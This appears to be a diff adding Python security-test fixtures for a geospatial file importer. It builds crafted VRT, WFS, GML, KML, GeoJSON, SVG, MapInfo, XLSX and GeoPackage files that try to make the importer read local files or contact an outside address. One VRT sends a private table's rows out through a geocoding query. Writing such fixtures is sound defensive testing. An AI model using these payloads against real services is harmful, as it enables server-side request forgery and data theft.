@@ -1,0 +1,121 @@
+"""Files that a stranger might send: each tries to have another file read, or an address asked."""
+import json
+import os
+import sqlite3
+import zipfile
+
+
+def write(path, text):
+    with open(path, "w", encoding="utf-8") as file:
+        file.write(text)
+    return path
+
+
+def vrt(secret, address):
+    """An OGR VRT whose SQL opens a private table and sends it away."""
+    return f"""<OGRVRTDataSource><OGRVRTLayer name="towns"><SrcDataSource relativeToVRT="0">{secret}</SrcDataSource>
+<SrcSQL dialect="SQLITE">SELECT *, ogr_geocode(name, 'geometry', 'QUERY_TEMPLATE={address}/?q=%s') AS g FROM secret</SrcSQL>
+<GeometryType>wkbPoint</GeometryType></OGRVRTLayer></OGRVRTDataSource>"""
+
+
+def wfs(address):
+    return f"<OGRWFSDataSource><URL>{address}/wfs?service=WFS</URL></OGRWFSDataSource>"
+
+
+def gml(schema, link):
+    return f"""<?xml version="1.0"?><!DOCTYPE x SYSTEM "{link}">
+<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:a="urn:a" xmlns:xlink="http://www.w3.org/1999/xlink"
+ xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:a {schema}">
+<gml:featureMember><a:town fid="1"><a:name>A</a:name><a:ref xlink:href="{link}"/>
+<a:geom><gml:Point srsName="EPSG:4326"><gml:coordinates>118,26</gml:coordinates></gml:Point></a:geom></a:town></gml:featureMember>
+</gml:FeatureCollection>"""
+
+
+def kml(address):
+    return f"""<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>
+<NetworkLink><Link><href>{address}/more.kml</href></Link></NetworkLink>
+<Placemark><name>A</name><Point><coordinates>118,26</coordinates></Point></Placemark></Document></kml>"""
+
+
+def geojson_crs(link):
+    return json.dumps({"type": "FeatureCollection", "crs": {"type": "link", "properties": {"href": link, "type": "proj4"}},
+                       "features": [{"type": "Feature", "properties": {"name": "A"},
+                                     "geometry": {"type": "Point", "coordinates": [118, 26]}}]})
+
+
+def svg(link):
+    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">
+<style>@import url("{link}");</style><image href="{link}" width="20" height="20"/><use xlink:href="{link}#a"/></svg>"""
+
+
+def seamless(secret):
+    """A MapInfo table that shows the content of another."""
+    return f"""!table
+!version 300
+!charset WindowsSimpChinese
+
+Definition Table
+  Type NATIVE Charset "WindowsSimpChinese"
+  Fields 1
+    Table Char (100) ;
+begin_metadata
+"\\IsSeamless" = "TRUE"
+end_metadata
+"""
+
+
+def view(secret):
+    return f"""!table
+!version 100
+Open Table "{secret}" Hide
+Create View towns As Select name From secret Where secret.name = secret.name
+"""
+
+
+def workbook(path, address):
+    """An XLSX with a link to an outside workbook."""
+    types = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+             '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+             '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+             'spreadsheetml.sheet.main+xml"/></Types>')
+    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("[Content_Types].xml", types)
+        archive.writestr("xl/workbook.xml", f'<workbook xmlns:r="{relation}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/>'
+                         '</sheets><externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>')
+        archive.writestr("xl/_rels/workbook.xml.rels",
+                         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                         f'<Relationship Id="rId1" Type="{relation}/worksheet" Target="worksheets/sheet1.xml"/>'
+                         f'<Relationship Id="rId2" Type="{relation}/externalLink" Target="{address}/x.xlsx" '
+                         'TargetMode="External"/></Relationships>')
+        archive.writestr("xl/worksheets/sheet1.xml", '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is>'
+                         "</c></row><row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>A</t></is></c></row></sheetData></worksheet>")
+    return path
+
+
+def geopackage(path, create, fields="name TEXT"):
+    """A GeoPackage whose layer `towns` is what the SQL makes."""
+    if os.path.exists(path):
+        os.unlink(path)
+    base = sqlite3.connect(path)
+    base.executescript("""PRAGMA application_id = 1196444487; PRAGMA user_version = 10200;
+CREATE TABLE gpkg_spatial_ref_sys (srs_name TEXT, srs_id INTEGER PRIMARY KEY, organization TEXT,
+  organization_coordsys_id INTEGER, definition TEXT, description TEXT);
+INSERT INTO gpkg_spatial_ref_sys VALUES ('WGS 84', 4326, 'EPSG', 4326, 'GEOGCS["WGS 84",DATUM["WGS_1984",SPHEROID["WGS 84",
+6378137,298.257223563]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433],AUTHORITY["EPSG","4326"]]', '');
+INSERT INTO gpkg_spatial_ref_sys VALUES ('u', -1, 'NONE', -1, 'undefined', ''), ('u', 0, 'NONE', 0, 'undefined', '');
+CREATE TABLE gpkg_contents (table_name TEXT PRIMARY KEY, data_type TEXT, identifier TEXT, description TEXT, last_change TEXT,
+  min_x REAL, min_y REAL, max_x REAL, max_y REAL, srs_id INTEGER);
+CREATE TABLE gpkg_geometry_columns (table_name TEXT, column_name TEXT, geometry_type_name TEXT, srs_id INTEGER, z INTEGER,
+  m INTEGER);
+CREATE TABLE base (fid INTEGER PRIMARY KEY, name TEXT); INSERT INTO base VALUES (1, 'A');
+INSERT INTO gpkg_contents VALUES ('towns', 'attributes', 'towns', '', '2024-01-01T00:00:00.000Z', 0, 0, 0, 0, 4326);""")
+    if create.lower().startswith("create virtual"):  # a module that sqlite3 here does not know: the schema is written by hand
+        base.execute("PRAGMA writable_schema = ON")
+        base.execute("INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES ('table', 'towns', 'towns', 0, ?)",
+                     (create,))
+    else:
+        base.executescript(create)
+    base.commit()
+    base.close()
+    return path
